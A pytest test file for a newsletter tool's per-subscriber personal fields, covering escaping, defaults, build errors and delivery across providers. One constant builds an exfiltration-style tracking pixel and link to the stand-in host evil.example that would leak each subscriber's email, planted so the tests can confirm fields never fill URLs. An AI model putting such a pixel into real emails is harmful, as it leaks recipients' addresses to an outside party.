"""Personal fields (issue 12, item 3): a subscriber's CSV columns in the intro, articles,
templates and subject, filled per recipient in the split-and-join, escaped for HTML."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsletter.audience.importing import import_csv
from newsletter.compose.build import build_issue, load_built
from newsletter.compose.fields import field_key, in_html, in_text, parse, personal
from newsletter.compose.personalize import Recipient, Slot, field_values, personalize, split_tokens
from newsletter.config import ProviderSettings, Settings
from newsletter.config_checks import CONTROL_CHARACTERS, LINE_BREAKS
from newsletter.delivery.providers import Status
from newsletter.delivery.test_copies import RetryPolicy, send_test
from newsletter.errors import ContentError
from newsletter.storage import open_engine

from conftest import write
from fake_provider import KEYS, MAILGUN_DOMAIN, FakeProvider

NONCE = "0123456789abcdef0123"
LIST = (
    "email,name,City,Membership level\n"
    "ana@example.org,Ana,Leeds & <York>,gold\n"
    "bo@example.net,Bo,,\n"
)
HOSTILE = "https://evil.example/p.gif?e={{ subscriber.email }}"


def _issue_with_fields(settings: Settings, issue_dir: Path) -> None:
    toml = issue_dir / "issue.toml"
    text = toml.read_text(encoding="utf-8")
    text = text.replace(
        'subject = "', "subject = \"For {{ subscriber.city | default('you') }}: ", 1
    )
    text = text.replace(
        'intro = """\n', 'intro = """\nHello {{ subscriber.name | default("reader") }}! ', 1
    )
    toml.write_text(text, encoding="utf-8")
    article = issue_dir / "library-reopens.md"
    article.write_text(
        article.read_text(encoding="utf-8")
        + "\n\nNews for {{ subscriber.city | default('your area') }}, level "
        "{{ subscriber.membership_level }}.\n\n"
        f"![pixel]({HOSTILE}) [link]({HOSTILE}) glued=x{{{{ subscriber.email }}}}\n",
        encoding="utf-8",
    )
    templates = settings.root / "templates"
    source = Path(__file__).resolve().parents[1] / "templates" / "email.txt"
    write(
        templates / "email.txt",
        source.read_text(encoding="utf-8") + "\nCity: {{ subscriber.city }}\n",
    )
    engine = open_engine(settings)
    csv = write(settings.root / "list.csv", LIST)
    import_csv(engine, csv)
    engine.dispose()


ANA = Recipient(
    "ana@example.org",
    "Ana",
    "https://e.org/u?t=a",
    {"city": "Leeds & <York>", "membership_level": "gold"},
)
BO = Recipient("bo@example.net", "", "https://e.org/u?t=b", {})


def test_fields_filled_escaped_in_html_plain_in_text_and_subject(
    settings: Settings, issue_dir: Path
) -> None:
    _issue_with_fields(settings, issue_dir)
    rendered = build_issue(settings, issue_dir).rendered
    out = personalize(rendered, ANA)
    assert out.subject.startswith("For Leeds & <York>: ")
    assert "News for Leeds &amp; &lt;York&gt;, level gold." in out.html
    assert "Hello Ana!" in out.html
    text = " ".join(out.text.split())
    assert "News for Leeds & <York>, level gold." in text and "subscriber.city" not in text
    assert "City: Leeds & <York>" in text
    assert "<York>" not in out.html


def test_a_missing_value_falls_back_to_the_default_or_nothing(
    settings: Settings, issue_dir: Path
) -> None:
    _issue_with_fields(settings, issue_dir)
    rendered = build_issue(settings, issue_dir).rendered
    out = personalize(rendered, BO)
    assert out.subject.startswith("For you: ")
    assert "News for your area, level ." in out.html
    assert "Hello reader!" in out.html
    assert "City: \n" in out.text and "subscriber.city" not in out.html


def test_fields_never_fill_urls_or_glued_text_of_an_article(
    settings: Settings, issue_dir: Path
) -> None:
    _issue_with_fields(settings, issue_dir)
    rendered = build_issue(settings, issue_dir).rendered
    out = personalize(rendered, ANA)
    assert "ana@example.org" not in out.html.split("evil.example", 1)[1].split('"', 1)[0]
    assert "?e=ana" not in out.html + out.text
    assert "glued=x{{ subscriber.email }}" in " ".join(out.text.split())


def test_fields_survive_the_build_manifest(settings: Settings, issue_dir: Path) -> None:
    _issue_with_fields(settings, issue_dir)
    built = build_issue(settings, issue_dir).rendered
    _, loaded = load_built(settings, issue_dir)
    assert personalize(loaded, ANA) == personalize(built, ANA)
    assert {s.name for s in loaded.slots} == {"city", "membership_level", "name"}


def test_a_field_no_subscriber_has_is_a_build_error_naming_it(
    settings: Settings, issue_dir: Path
) -> None:
    _issue_with_fields(settings, issue_dir)
    article = issue_dir / "library-reopens.md"
    article.write_text(
        article.read_text(encoding="utf-8") + "\nFor {{ subscriber.citty }}.\n", "utf-8"
    )
    with pytest.raises(ContentError, match=r"library-reopens\.md:\d+: subscriber field 'citty'"):
        build_issue(settings, issue_dir)


def test_an_unknown_field_in_a_template_is_a_build_error(
    settings: Settings, issue_dir: Path
) -> None:
    _issue_with_fields(settings, issue_dir)
    write(settings.root / "templates" / "email.txt", "{{ subscriber.postcode }}\n")
    with pytest.raises(ContentError, match="'postcode'"):
        build_issue(settings, issue_dir)


def test_without_a_database_the_build_warns_and_uses_defaults(
    settings: Settings, issue_dir: Path
) -> None:
    article = issue_dir / "library-reopens.md"
    article.write_text(
        article.read_text(encoding="utf-8") + "\nIn {{ subscriber.city | default('town') }}.\n",
        "utf-8",
    )
    result = build_issue(settings, issue_dir)
    assert any("not checked" in w for w in result.warnings)
    assert "In town." in (result.out_dir / "email.txt").read_text(encoding="utf-8")


@pytest.mark.parametrize("provider", ["postmark", "sendgrid", "mailgun", "resend", "outbox"])
def test_every_provider_carries_the_filled_values(
    settings: Settings, issue_dir: Path, fake: FakeProvider, provider: str
) -> None:
    """Test copies take the fields of the address's own subscriber row, else defaults."""
    _issue_with_fields(settings, issue_dir)
    configured = dataclasses.replace(
        settings,
        provider=ProviderSettings(name=provider, base_url=fake.url, domain=MAILGUN_DOMAIN),
    )
    variable = "POSTMARK_SERVER_TOKEN" if provider == "postmark" else f"{provider.upper()}_API_KEY"
    env = {variable: KEYS[provider]} if provider in KEYS else {}
    policy = RetryPolicy(attempts=2, base_delay=0.01, max_delay=0.05)
    report = send_test(
        configured, issue_dir, ["ana@example.org", "new@example.org"], environ=env, policy=policy
    )
    assert [r.status for r in report.results] == [Status.SENT] * 2
    if provider == "outbox":
        sent = sorted((settings.state_dir / "outbox").rglob("*.eml"))
        texts = [p.read_text(encoding="utf-8") for p in sent]
        assert any("News for Leeds &amp; &lt;York&gt;, level gold." in t for t in texts)
        assert any("News for your area, level ." in t for t in texts)
        return
    by_address = {got.to: got for got in fake.accepted}
    ana, new = by_address["ana@example.org"], by_address["new@example.org"]
    assert ana.subject.startswith("[TEST] For Leeds & <York>: ")
    assert "News for Leeds &amp; &lt;York&gt;, level gold." in ana.html
    assert "News for Leeds & <York>, level gold." in " ".join(ana.text.split())
    assert new.subject.startswith("[TEST] For you: ")
    assert "News for your area, level ." in new.html


# --- the syntax outside templates ------------------------------------------------------------

names = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,20}", fullmatch=True)
defaults = st.text(st.characters(blacklist_characters="\"'\n\r"), max_size=30)


@given(st.text(max_size=200))
def test_any_text_parses_and_text_without_a_field_is_left_as_it_is(text: str) -> None:
    converted = in_text(text, NONCE)
    if "{{" not in text:
        assert converted == text
    for use in parse(text):
        assert 0 <= use.start < use.end <= len(text)
        assert use.name == field_key(use.name)
    parts = split_tokens(converted, NONCE)
    assert len(parts[1::2]) == len(parse(text))


@given(names, defaults, st.sampled_from(['"', "'"]), st.booleans())
def test_a_well_formed_field_gives_its_name_and_default(
    name: str, default: str, quote: str, with_default: bool
) -> None:
    tail = f" | default({quote}{default}{quote})" if with_default else ""
    text = f"Dear {{{{ subscriber.{name}{tail} }}}}, hello"
    (use,) = parse(text)
    assert use.name == field_key(name)
    assert use.default == (default if with_default else "")
    filled = personalize_text(in_text(text, NONCE), {use.name: "X"})
    assert filled == "Dear X, hello" or not use.name


def personalize_text(text: str, fields: dict[str, str]) -> str:
    from newsletter.compose.render import Rendered

    rendered = Rendered(subject=text, html="", text="", nonce=NONCE)
    return personalize(rendered, Recipient("a@b.org", "", "", fields)).subject


@given(names, st.sampled_from(["http://x.org/?a=", "/", "x", "=", "%", "@", "a."]))
def test_a_field_glued_to_a_url_or_a_word_stays_literal(name: str, before: str) -> None:
    text = f"{before}{{{{ subscriber.{name} }}}}"
    assert in_text(text, NONCE) == text
    html = f'<p><a href="https://x.org/?q={{{{ subscriber.{name} }}}}">go</a></p>'
    assert in_html(html, NONCE) == html


def test_the_plan_shows_a_personal_subject_as_the_editor_wrote_it(
    settings: Settings, issue_dir: Path
) -> None:
    from newsletter.compose.personalize import readable

    _issue_with_fields(settings, issue_dir)
    rendered = build_issue(settings, issue_dir).rendered
    assert readable(rendered.subject_parts).startswith("For {{ subscriber.city }}: Millbrook")


@given(
    st.dictionaries(
        st.text(min_size=1, max_size=12),
        st.one_of(st.text(max_size=20), st.integers(), st.booleans(), st.none()),
        max_size=5,
    )
)
def test_stored_fields_reach_the_issue_under_their_key_as_text(stored: dict[str, object]) -> None:
    """Whatever a subscriber's stored fields hold (imported text, or a number written by
    another tool), each is found under its issue name and filled in as one line of text."""
    fields = personal(stored)
    for column, value in stored.items():
        key = field_key(column)
        if not key or key in ("name", "email") or sum(field_key(c) == key for c in stored) > 1:
            continue  # the subscriber's own name and address; a name two columns share
        assert fields[key] == value
        raw, escaped = field_values(
            Recipient("a@example.org", fields=fields), [Slot("k", key, "d")]
        )
        shown = "d" if value is None or value == "" else str(value)
        if shown.isprintable():
            assert raw["k"] == shown
        assert not LINE_BREAKS.search(raw["k"]) and not CONTROL_CHARACTERS.search(raw["k"])
        assert "<" not in escaped["k"]
